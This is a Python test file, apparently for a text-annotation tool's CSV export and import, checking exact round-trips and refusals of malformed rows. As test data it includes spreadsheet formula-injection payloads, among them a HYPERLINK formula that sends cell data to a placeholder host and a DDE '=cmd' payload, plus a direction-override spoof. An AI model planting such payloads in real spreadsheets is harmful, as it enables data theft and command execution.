"""Loupe CSV import: whatever the export wrote comes back exactly; anything else is refused with
the row and the problem."""

from __future__ import annotations

import csv
import io

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.articles import make_document
from app.cli import export_csv
from app.formats import csv_export, loupe_csv
from app.formats.csv_export import COLUMNS, write_csv
from app.formats.registry import read_colleague_file
from app.model import Grade
from app.offsets import new_annotation
from db import repository
from db.connection import open_db
from tests.db_helpers import fill
from tests.import_helpers import ARABIC, FLAG, refused

NAME = "colleague.csv"
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-2", "@SUM(A1)", "'quoted", "''", "\t=1"]


def exported(rows: list[tuple]) -> bytes:
    out = io.StringIO(newline="")
    write_csv(rows, out)
    return out.getvalue().encode("utf-8")


def row(**changes) -> tuple:
    values = {
        "annotation_id": "0b1c", "document_id": "1", "document_title": "Homs talks",
        "source": "Wire", "url": "https://x.example/homs", "start": 21, "end": 34,
        "quote": "the president", "prefix": "talks\nYesterday ", "suffix": " said",
        "tag_type": "Actor", "entity": "Bashar al-Assad", "credibility": None,
        "reliability": None, "note": "", "annotator": "k.ng",
        "created_at": "2025-03-01T09:30:12.345Z", "updated_at": "2025-03-01T09:30:12.345Z",
    }  # fmt: skip
    values.update(changes)
    return tuple(values[c] for c in COLUMNS)


def raw_csv(*records: list[str]) -> bytes:
    """A CSV written without Loupe's writer (no guard), as a hand-edited file would be."""
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows([list(COLUMNS), *records])
    return ("\ufeff" + out.getvalue()).encode()


# ---------------------------------------------------------------- a real export, back again


def test_a_real_export_comes_back_exactly(db, tmp_path):
    project = fill(db)
    path = tmp_path / "export.csv"
    assert export_csv(db, path) == len(project["anns"])
    parsed = read_colleague_file(path)
    assert parsed.format == "loupe-csv" and parsed.name == "export.csv"
    names = {t.id: t.name for t in repository.list_tag_types(db)}
    by_id = {a.id: a for a in parsed.annotations}
    for doc in (project["d1"], project["d2"]):
        for stored in repository.annotations_for_document(db, doc.id):
            got = by_id.pop(stored.id)
            assert got.document_key == str(doc.id)
            assert (got.start, got.end, got.exact) == (stored.start, stored.end, stored.quote)
            assert (got.prefix, got.suffix, got.note) == (stored.prefix, stored.suffix, stored.note)
            assert (got.tag_type, got.entity) == (names[stored.tag_type_id], stored.entity)
            assert got.grade == stored.grade and got.creator == stored.annotator
            assert (got.created, got.modified) == (stored.created_at, stored.updated_at)
    assert by_id == {}
    documents = {d.key: d for d in parsed.documents}
    assert documents[str(project["d2"].id)].source == "Blog"
    for doc in (project["d1"], project["d2"]):
        assert documents[str(doc.id)].title == doc.title
        assert documents[str(doc.id)].text is None and documents[str(doc.id)].text_sha256 == ""


def test_hostile_cells_through_the_database_come_back_verbatim(db, tmp_path):
    text = f"{FLAG} {ARABIC} =SUM(1)\nsaid @rebel; -2 dead, 'quoted' \"claim\", ok.\n"
    with db.atomic():
        doc = repository.insert_document(
            db, make_document(text, title="=cmd|' /C calc'!A0", source="@source", url="-x")
        )
        actor = repository.find_tag_type(db, "Actor")
        cred = repository.find_tag_type(db, "Credibility")
        anns = [
            new_annotation(text, doc.id, *span(text, "=SUM(1)"), actor.id, entity="+33 Homs",
                           note="\t=1", annotator="'me"),
            new_annotation(text, doc.id, *span(text, "'quoted' \"claim\""), cred.id,
                           grade=Grade(2, "B"), note="line one\r\nline two"),
            new_annotation(text, doc.id, *span(text, ARABIC), actor.id, entity=ARABIC),
        ]  # fmt: skip
        repository.insert_annotations(db, anns)
    path = tmp_path / "out.csv"
    export_csv(db, path)
    parsed = loupe_csv.parse(path.read_bytes(), NAME)
    got = {a.id: a for a in parsed.annotations}
    for ann in anns:
        back = got[ann.id]
        assert text[back.start : back.end] == back.exact == ann.quote
        assert (back.entity, back.note, back.grade) == (ann.entity, ann.note, ann.grade)
        assert back.creator == ann.annotator
    assert parsed.documents[0].title == "=cmd|' /C calc'!A0"
    assert (parsed.documents[0].source, parsed.documents[0].url) == ("@source", "-x")
    assert parsed.creator == ""  # two annotators: "'me" and ""


def span(text: str, needle: str) -> tuple[int, int]:
    return text.index(needle), text.index(needle) + len(needle)


names = (
    st.text(
        st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp")), min_size=1, max_size=20
    )
    .map(str.strip)
    .filter(bool)
)
plain = st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)))
free_text = st.one_of(
    plain,
    st.tuples(st.sampled_from("=+-@'\t\r\n,\""), plain).map("".join),
    st.sampled_from([*HOSTILE, "", "a\r\nb", '🇸🇾,"x"', "\u2028"]),
)
quotes = free_text.filter(lambda q: q.strip() != "")
grades = st.sampled_from([(None, None), (3, None), (1, "A"), (6, "F"), (None, "C")])


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.tuples(quotes, free_text, free_text, names, st.one_of(st.just(""), names), grades,
                  free_text, st.one_of(st.just(""), names), st.integers(0, 10**6)),
        min_size=1, max_size=6,
    )
)  # fmt: skip
def test_any_annotation_written_by_the_exporter_is_read_back_identically(items):
    rows = [
        row(annotation_id=f"id-{i}", start=start, end=start + len(quote), quote=quote,
            prefix=prefix, suffix=suffix, tag_type=tag, entity=entity, credibility=grade[0],
            reliability=grade[1], note=note, annotator=who)
        for i, (quote, prefix, suffix, tag, entity, grade, note, who, start) in enumerate(items)
    ]  # fmt: skip
    parsed = loupe_csv.parse(exported(rows), NAME)
    assert len(parsed.annotations) == len(rows)
    for written, back in zip(rows, parsed.annotations, strict=True):
        values = dict(zip(COLUMNS, written, strict=True))
        assert back.id == values["annotation_id"] and back.document_key == "1"
        assert (back.start, back.end) == (values["start"], values["end"])
        assert (back.exact, back.prefix, back.suffix) == (
            values["quote"],
            values["prefix"],
            values["suffix"],
        )
        assert (back.tag_type, back.entity, back.note) == (
            values["tag_type"],
            values["entity"],
            values["note"],
        )
        assert back.grade == Grade(values["credibility"], values["reliability"])
        assert back.creator == values["annotator"]


@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow])
@given(quote=quotes, note=free_text, entity=st.one_of(st.just(""), names))
def test_any_annotation_exported_from_a_database_is_read_back_identically(quote, note, entity):
    text = f"{FLAG} {quote}\n".replace("\r", "\n")  # what Loupe stores has \n line ends
    start = len(FLAG) + 1
    end = start + len(quote)
    database = open_db(None)
    try:
        with database.atomic():
            doc = repository.insert_document(database, make_document(text))
            tag = repository.find_tag_type(database, "Actor")
            ann = new_annotation(text, doc.id, start, end, tag.id, entity=entity, note=note)
            repository.insert_annotations(database, [ann])
        out = io.StringIO(newline="")
        write_csv(
            repository.export_rows(database, None, csv_export.GUARD_LEADING), out, guarded=True
        )
    finally:
        database.close()
    (back,) = loupe_csv.parse(out.getvalue().encode(), NAME).annotations
    assert (back.id, back.start, back.end, back.exact) == (ann.id, start, end, ann.quote)
    assert (back.note, back.entity, back.prefix, back.suffix) == (
        ann.note,
        ann.entity,
        ann.prefix,
        ann.suffix,
    )


def test_unguarded_formula_cells_from_a_hand_edited_file_are_kept_verbatim():
    record = [str(v) if v is not None else "" for v in row(note="=1+2", entity="@x")]
    (back,) = loupe_csv.parse(raw_csv(record), NAME).annotations
    assert (back.note, back.entity) == ("=1+2", "@x")


def test_row_numbers_count_records_not_physical_lines():
    rows = [row(annotation_id="a", prefix="one\ntwo\nthree"), row(annotation_id="b", end="x")]
    refused(loupe_csv.parse, exported(rows), NAME, file=NAME, where="row 3", says="end must be")


def test_header_only_means_no_annotations():
    parsed = loupe_csv.parse(exported([]), NAME)
    assert parsed.annotations == () and parsed.documents == ()


# ---------------------------------------------------------------- refusals


def test_a_foreign_header_lists_what_is_missing_and_unexpected():
    data = "\ufeffid,document_id,quote\r\n1,1,x\r\n".encode()
    problem = refused(loupe_csv.parse, data, NAME, file=NAME, where="row 1", says="missing")
    assert "annotation_id" in problem.problem and "unexpected 'id'" in problem.problem


def test_a_reordered_header_is_refused():
    columns = list(COLUMNS)
    columns[0], columns[1] = columns[1], columns[0]
    data = ("\ufeff" + ",".join(columns) + "\r\n").encode()
    refused(loupe_csv.parse, data, NAME, file=NAME, where="row 1", says="another order")


def test_missing_cells_are_refused():
    data = exported([row()]).replace(b",2025-03-01T09:30:12.345Z\r\n", b"\r\n")
    refused(loupe_csv.parse, data, NAME, file=NAME, where="row 2", says="has 17 cells")


def test_broken_quoting_is_refused_with_its_row():
    data = exported([row()]) + b'x,1,"unterminated\r\n'
    refused(loupe_csv.parse, data, NAME, file=NAME, where="row 3", says="not valid CSV")


def test_offsets_must_be_plain_ordered_whole_numbers():
    for start, end, says in [
        ("1.0", 2, "start must be a whole number"),
        (-3, 2, "start must be a whole number"),
        (" 3", 5, "start must be a whole number"),
        (9, 4, "start 9 is not before end 4"),
        (4, 4, "start 4 is not before end 4"),
    ]:
        data = exported([row(start=start, end=end, quote="x")])
        refused(loupe_csv.parse, data, NAME, file=NAME, where="row 2", says=says)


def test_a_quote_that_does_not_fit_its_span_is_refused():
    data = exported([row(start=21, end=30)])
    refused(loupe_csv.parse, data, NAME, file=NAME, where="row 2", says="the quote has 13")


def test_grades_off_the_admiralty_scale_are_refused():
    for credibility, reliability, says in [
        (7, None, "credibility must be 1–6"),
        ("3.0", None, "credibility must be 1–6"),
        ("12", None, "credibility must be 1–6"),
        (3, "G", "reliability must be A–F"),
        (3, "b", "reliability must be A–F"),
        (3, "AB", "reliability must be A–F"),
    ]:
        data = exported([row(credibility=credibility, reliability=reliability)])
        refused(loupe_csv.parse, data, NAME, file=NAME, where="row 2", says=says)


def test_a_repeated_annotation_id_names_both_rows():
    data = exported([row(), row(annotation_id="other"), row()])
    refused(loupe_csv.parse, data, NAME, file=NAME, where="row 4", says="first in row 2")


def test_control_and_direction_characters_in_names_are_refused():
    for column in ("tag_type", "entity", "annotator"):
        data = exported([row(**{column: "Assad\u202eevil"})])
        refused(loupe_csv.parse, data, NAME, file=NAME, where="row 2", says="U+202E")


def test_one_document_cannot_have_two_titles():
    data = exported([row(), row(annotation_id="b", document_title="Other")])
    refused(loupe_csv.parse, data, NAME, file=NAME, where="row 3", says="document_title")


def test_timestamps_must_be_iso_with_a_zone():
    for bad in ("yesterday", "2025-03-01", "2025-03-01T09:30:12"):
        data = exported([row(created_at=bad)])
        refused(loupe_csv.parse, data, NAME, file=NAME, where="row 2", says="created_at must be")


def test_not_utf8_empty_and_nul_are_refused():
    refused(loupe_csv.parse, "é".encode("latin-1") * 3, NAME, file=NAME, where="byte 0",
            says="not valid UTF-8")  # fmt: skip
    refused(loupe_csv.parse, b"", NAME, file=NAME, where="", says="empty")
    data = exported([row(note="a\x00b")])
    refused(loupe_csv.parse, data, NAME, file=NAME, where="", says="binary")
    # Past the first 4 KiB the file looks like text; the cell itself is refused.
    data = exported([row(note="n" * 5000), row(annotation_id="b", note="a\x00b")])
    refused(loupe_csv.parse, data, NAME, file=NAME, where="row 3", says="note contains a NUL")
